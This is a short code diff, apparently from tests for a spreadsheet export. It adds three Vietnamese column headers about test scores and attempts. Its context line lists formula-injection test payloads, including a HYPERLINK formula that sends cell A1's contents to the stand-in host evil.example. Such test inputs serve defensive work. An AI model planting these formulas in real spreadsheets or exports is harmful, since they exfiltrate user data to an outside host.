@@ -37,6 +37,9 @@ MEMBER_HEADER = [
     "Nhận lúc",
     "Học tập lúc",
     "Hình thức",
+    "Điểm kiểm tra",
+    "Số lần làm bài",
+    "Câu trả lời lần cuối",
 ]
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1", "@SUM(A1:A9)", "-2+3"]
 
